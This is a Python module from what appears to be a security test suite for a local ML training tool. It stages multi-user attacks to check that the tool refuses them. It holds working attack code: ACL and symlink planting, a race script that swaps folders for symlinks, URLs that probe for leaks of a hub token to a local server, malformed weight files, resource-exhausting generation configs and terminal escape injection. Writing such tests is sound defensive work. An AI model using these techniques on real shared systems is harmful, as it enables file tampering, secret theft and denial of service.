"""Attacks n13 to n20: places that several users reach, locks, links, requests and moments."""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import shutil
import struct
import threading
import time
from pathlib import Path
from typing import Any, ClassVar

from benchmarks.attacks.attack import Verdict, attack, judged
from benchmarks.attacks.code import looked, own_preset
from benchmarks.attacks.foreign import SECRET, resumed
from benchmarks.attacks.stage import PROJECT, Stage, Word, cases, changed, write

_OWNER, _USER, _GROUP, _MASK, _OTHER = 1, 2, 4, 16, 32
_NOBODY = 0xFFFFFFFF


def _allow(path: Path, user: int, owner: int = 7, *, default: bool = False) -> None:
    """Let a user write by an access control list; mode bits show that as a right of the group."""
    entries = (
        (_OWNER, owner, _NOBODY),
        (_USER, 7, user),
        (_GROUP, 0, _NOBODY),
        (_MASK, 7, _NOBODY),
        (_OTHER, 0, _NOBODY),
    )
    value = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *entry) for entry in entries)
    os.setxattr(path, f"system.posix_acl_{'default' if default else 'access'}", value)


@attack("n13a", "settings in a folder that a list, and not its mode, lets another user write")
def _(stage: Stage) -> Verdict:
    model = stage.model("own", label="listed")
    preset = own_preset(stage, model)
    preset.chmod(0o660)
    _list(stage, preset)
    stage.said("trust", model, "--yes")
    return looked(stage, "listed", "data", preset)


@attack("n13b", "a run that a list lets another user write is resumed")
def _(stage: Stage) -> Verdict:
    run = stage.run_of(stage.owner, "runs/mine")
    _list(stage, run / "spec.json", run, *run.rglob("*"))
    return resumed(stage, run)


def _list(stage: Stage, *paths: Path) -> None:
    """Let the attacker write files in the owner's home. Raises RuntimeError if the file system
    has no lists.
    """
    for path in paths:
        _allow(path, stage.other.uid)
    stage.owner.home.chmod(0o711)
    if not stage.writable(paths[0]):
        raise RuntimeError("the list has no effect")


def _below_a_default_list(stage: Stage, access: str, **variables: str) -> Verdict:
    """Tell whether the other user may open files of a run so (``R_OK`` or ``W_OK``) that the owner
    makes in a folder whose default list lets them write.
    """
    runs = stage.owner.home / "runs"
    runs.mkdir()
    stage.owner.give(runs)
    stage.owner.home.chmod(0o711)
    _allow(runs, stage.other.uid, default=True)
    runs.chmod(0o711)
    said = stage.train("--runs-dir", runs, **variables).end()
    if not list(runs.rglob("spec.json")):
        raise RuntimeError(f"there is no run: {said}")
    found = stage.writable(*runs.rglob("*"), access=access)
    return judged(found, f"{access}: {found}", "no other user can open it")


@attack("n13c", "a run made below a folder whose default list lets another user write")
def _(stage: Stage) -> Verdict:
    return _below_a_default_list(stage, "R_OK")


@attack("n13d", "the same with SO_TUI_SHARE=group: who is on the list writes")
def _(stage: Stage) -> Verdict:
    return _below_a_default_list(stage, "W_OK", SO_TUI_SHARE="group")


_HOLD = """
import fcntl, os, sys, time
held = []
for path in sys.argv[1:]:
    try:
        file = os.open(path, os.O_RDONLY)
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        held.append(os.path.basename(path))
    except OSError as error:
        print(error, flush=True)
print("held", held, flush=True)
time.sleep(600)
"""


def _held(stage: Stage, above: Path) -> str:
    """Let the attacker lock all that they can open, and return what was held."""
    paths = map(str, (above, *above.rglob("*")))
    holder = stage.python(stage.other, _HOLD, *paths)
    return holder.ready("held [").text.rpartition("held")[2]


@attack("n14a", "a member of the group that reads a run locks its files: resume, stop")
def _(stage: Stage) -> Verdict:
    runs = stage.shared("runs")
    stage.train("--runs-dir", runs, SO_TUI_SHARE="group", group=PROJECT).end()
    run = next(path.parent for path in runs.glob("*/spec.json"))
    held = _held(stage, run)
    outcome, evidence = resumed(stage, run)
    return judged(outcome == "HELD", evidence, f"it trained on; held {held}")


@attack("n14b", "locks of a shared HF_HOME held for ever: data, run")
def _(stage: Stage) -> Verdict:
    home = stage.shared("huggingface", 0o2777)
    rows = stage.private("rows.jsonl", {"text": "a row"})
    command = ("data", "tiny", "--set", f"data.source={rows}")
    stage.said(*command, umask=0o002, HF_HOME=home)
    shutil.rmtree(stage.owner.home / ".cache", ignore_errors=True)
    held = _held(stage, home)
    bad = stage.complaints(60, *command, HF_HOME=home)
    return judged(bad, bad, f"it ended; held {held}")


@attack("n15a", "a run in a queue, copied from another user, names a job of the owner's: stop")
def _(stage: Stage) -> Verdict:
    theirs = stage.run_of(stage.other, "theirs")
    path, _ = stage.slurm()
    record, bin_folder = stage.scratch / "cancelled", Path(path.partition(":")[0])
    for name in ("scancel", "squeue", "sacct"):
        lines = f'echo "$0 $@" >> {record}\necho "7|RUNNING|mine|n1|None|/x"\n'
        (bin_folder / name).write_text(f"#!/bin/sh\n{lines}")
    changed(theirs / "state.json", state="queued", ended=None, host="")
    submission = {"v": 1, "job": "7", "cluster": "here", "partition": "p", "time": time.time()}
    submission |= {"job_id": "7", "submitted": time.time()}
    write(theirs / "attempts" / "001" / "submission.json", submission)
    stage.published(theirs)
    mine = stage.owner.home / "runs" / "copied"
    code = "import shutil, sys; shutil.copytree(*sys.argv[1:])"
    stage.python(stage.owner, code, theirs, mine).end()
    told = stage.said("stop", mine, "--grace", "3", PATH=path)
    asked = record.read_text() if record.exists() else ""
    return judged("scancel" in asked, asked, told)


def _planted(stage: Stage, target: Path, *command: Word, folder: Path = Path("/")) -> Verdict:
    """Run a command that writes where the attacker has put a link to a file, or an empty folder,
    of the owner's.
    """
    before = _content(target)
    said = stage.said(*command, folder=folder)
    return judged(
        _content(target) != before, f"the owner's {target.name} now has {_content(target)}", said
    )


def _content(path: Path) -> str:
    return str(sorted(path.iterdir())) if path.is_dir() else path.read_text(errors="replace")


def _writes(number: str, title: str, *command: str, name: str = "out") -> None:
    """Register an attack on a command that writes a file or folder in a shared folder."""

    @attack(number, f"{title}, which is a link of others to what the owner has")
    def _(stage: Stage) -> Verdict:
        run = stage.run_of(stage.owner, "mine")
        if name == "out":
            (target := stage.owner.home / "target").mkdir()
            stage.owner.give(target)
        else:
            target = stage.private(".bashrc", "precious")
        shared = stage.shared("project")
        stage.link(shared / name, target)
        words = [word.format(run=run, out=shared / name) for word in command]
        return _planted(stage, target, *words, folder=shared)


_writes("n16a", "export-metrics --to FILE", "export-metrics", "{run}", "--to", "{out}", name="m")
_writes("n16b", "export-metrics to RUN.csv", "export-metrics", "{run}", name="mine.csv")
_writes("n16c", "export --to DIR", "export", "{run}", "--to", "{out}")
_writes("n16d", "convert --to DIR", "convert", "{run}", "--to", "{out}")


_SWAP = """
import os, sys, time
folder, watched, target = sys.argv[1:]
end = time.time() + 150
print("ready", flush=True)
while time.time() < end:
    for name in os.listdir(folder):
        if name.startswith(watched) and os.path.isdir(os.path.join(folder, name)):
            place = os.path.join(folder, name)
            if os.path.islink(place):
                continue
            try:
                os.rename(place, os.path.join(folder, "taken-" + name))
                os.symlink(target, place)
                print("exchanged", place, flush=True)
            except OSError as error:
                print(error, flush=True)
    time.sleep(0.0005)
"""


@attack("n16h", "export: its folder is exchanged with a link while it is written", race=True)
def _(stage: Stage) -> Verdict:
    shared, target = stage.shared("project"), stage.owner.home / "target"
    target.mkdir()
    stage.owner.give(target)
    run = stage.run_of(stage.owner, "mine")
    moved = []
    for watched in ("out", "."):
        words = ("-c", _SWAP, shared, watched, target)
        moved.append(stage.begin(stage.other, stage.other.interpreter, *words).ready())
    verdict = _planted(stage, target, "export", run, "--to", shared / "out")
    exchanged = "".join(each.text for each in moved)[-150:]
    return verdict._replace(evidence=f"{exchanged}; {verdict.evidence}")


_DELETE = """
import sys
from so_tui.runs import find_run
from so_tui.runs.listing import delete_run
print("start", flush=True)
try:
    delete_run(find_run(sys.argv[1]))
    print("deleted", flush=True)
except Exception as error:
    print(type(error).__name__, error, flush=True)
"""


@attack("n17", "two runs of the owner's change names while one is deleted", race=True)
def _(stage: Stage) -> Verdict:
    worst, deleted, said = "", 0, ""
    for number in range(20):
        runs = stage.shared(f"runs{number}")
        first, second = (stage.run_of(stage.owner, runs / name) for name in "ab")
        whole = {len([*first.rglob("*")])}
        attacker = stage.attacks("storm", first, second).ready()
        said = stage.python(stage.owner, _DELETE, first).end(30)
        deleted += "deleted" in said
        attacker.process.kill()
        attacker.process.wait()
        left = {path.name: len([*path.rglob("*")]) for path in runs.iterdir()}
        if {*left.values()} != whole:
            worst = f"{left}, not {whole}: {said}"
    return judged(worst, worst, f"{deleted} deleted; {said}")


class _Server(http.server.BaseHTTPRequestHandler):
    seen: ClassVar[list[str]] = []

    def _any(self) -> None:
        self.seen.append(f"{self.command} {self.path} {dict(self.headers)}")
        self.send_response(404)
        self.end_headers()

    do_GET = do_HEAD = do_POST = _any  # noqa: N815 - the names that the server calls

    def log_message(self, *_: object) -> None:
        pass


@attack("n18", "addresses in a preset of others: the token of the hub, and what is asked for")
def _(stage: Stage) -> Verdict:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Server)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    web = f"//127.0.0.1:{server.server_address[1]}"
    _Server.seen.clear()
    private = stage.private("private.jsonl", {"text": SECRET})
    said = ""
    for address in (
        f"http:{web}/rows.jsonl",
        f"hf://datasets/x/y@http:{web}",
        f"simplecache::http:{web}/rows.jsonl",
        f"file://{private}",
        f"local://{private}",
        f"zip://rows.jsonl::http:{web}/a.zip",
        f"reference://::http:{web}/a.json",
        f"{web}/a",
    ):
        for table, key in (("data", "source"), ("model", "tokenizer")):
            changes: dict[str, Any] = {table: {key: address}}
            path = stage.preset("p.toml", **changes)
            told = stage.said("data", path, HF_TOKEN="hf_secretsecret", HF_HUB_OFFLINE="0")
            said += told[-100:]
    server.shutdown()
    return judged(_Server.seen, _Server.seen[:2], f"nothing was asked; {said}")


def _generates(stage: Stage, model: Path) -> list[str]:
    """Return what is wrong where a model of others answers, or is refused."""
    return stage.complaints(60, "generate", model, "--prompt", "hello")


@attack("n19a", "a weight file that its author cuts while it is read (SIGBUS): generate", race=True)
def _(stage: Stage) -> Verdict:
    model = stage.exported()
    weights = next(model.glob("*.safetensors"))
    victim = stage.so_tui("generate", model, "--prompt", "hello")

    def mapped() -> bool:
        for process in stage.processes(stage.owner):
            with contextlib.suppress(Exception):
                if any(weights in each.path for each in process.memory_maps()):
                    return True
        return False

    cut = victim.wait(mapped, 60)
    if cut:
        os.truncate(weights, 4096)
    said = victim.end()
    bad = "Traceback" in said or not said.strip() or (victim.code or 0) < 0
    return judged(bad, f"{victim.code}: {said}", f"cut: {cut}; {said}")


@attack("n19b", "weight files that end early, or whose header says that they do: generate")
def _(stage: Stage) -> Verdict:
    whole = next(stage.ground.export.glob("*.safetensors")).read_bytes()
    body = 8 + int.from_bytes(whole[:8], "little")
    tree = json.loads(whole[8:body])
    for each in tree.values():
        if "shape" in each:
            each["shape"][0] = 1 << 40
    head = json.dumps(tree).encode()
    bad = []
    for number, content in enumerate(
        (
            whole[: len(whole) // 2],
            struct.pack("<Q", 1 << 62) + whole[8:],
            whole,
            None,
            struct.pack("<Q", len(head)) + head + whole[body:],
        )
    ):
        model = stage.exported(f"model{number}")
        weights = write(next(model.glob("*.safetensors")), content)
        if content is whole:
            os.truncate(weights, 1 << 42)
        bad += _generates(stage, stage.published(model))
    return judged(bad, bad, "each is refused")


_GENERATION = """
{"num_beams": 100000}
{"num_return_sequences": 100000, "do_sample": true}
{"max_new_tokens": 1000000000000}
{"min_length": 1000000000}
{"penalty_alpha": 0.6, "top_k": 9}
{"assistant_early_exit": 2}
{"cache_implementation": "quantized"}
{"suppress_tokens": [1000000000]}
{"prompt_lookup_num_tokens": 1000000000}
{"compile_config": {"backend": "inductor"}}
{"eos_token_id": [-1]}
{"sequence_bias": [[[1], 1e308]]}
{"constraints": ["x"]}
{"guidance_scale": 1e9}
{"cache_implementation": "static"}
"""


@attack("n20a", "generation_config.json of others asks for endless work: generate")
def _(stage: Stage) -> Verdict:
    bad = []
    long: tuple[dict[str, object], ...] = (
        {"stop_strings": ["a" * 10_000] * 1000},
        {"bad_words_ids": [[1] * 1000] * 10_000},
        {"custom_generate": stage.scratch},
    )
    for number, changes in enumerate((*cases(_GENERATION), *long)):
        model = stage.exported(f"model{number}")
        changed(model / "generation_config.json", **changes)
        bad += _generates(stage, stage.published(model))
    return judged(bad, bad, "each is ignored or refused")


@attack("n20b", "adapter_config.json of others names a private model: generate")
def _(stage: Stage) -> Verdict:
    private = stage.exported("private", stage.owner)
    model = stage.exported()
    for path in model.glob("*.safetensors"):
        path.unlink()
    tree = {"base_model_name_or_path": private, "peft_type": "LORA"}
    stage.foreign("model", {"adapter_config.json": tree})
    victim = stage.answered(model)
    return judged(not victim.code, "the private model answered", victim.text)


_SEQUENCES = (
    b"\x9b2J",
    b"\xc2\x9b2J",
    b"\x1bP$q",
    b"\x1b]52;c;aGk=\x07",
    b"\xe2\x80",
    b"\xae\xe2\x80\xae",
    b"\xf3\xa0\x81\x81",
    b"\x00\x08\x7f",
    b"\r\x1b[1A",
)
_RAW = (b"\x1b", b"\x9b", b"\xe2\x80\xae", b"\0", b"\x7f", b"\r", b"\xf3\xa0\x81\x81")


@attack("n20c", "raw bytes of terminal control in what a run's processes wrote: logs, watch")
def _(stage: Stage) -> Verdict:
    run = stage.run_of(stage.other, "run")
    log = next(run.glob("attempts/001/output.*"))
    log.write_bytes(log.read_bytes() + b"".join(each + b" words\n" for each in _SEQUENCES))
    stage.published(run)
    said = b""
    for command in (("logs",), ("watch", "--plain")):
        victim = stage.so_tui(*command, run)
        victim.end(30)
        said += victim.output.read_bytes()
    if b"words" not in said:
        raise RuntimeError("the log was not shown")
    raw = [byte for byte in _RAW if byte in said]
    return judged(raw, f"{raw} reached the terminal", "all is spelled out")
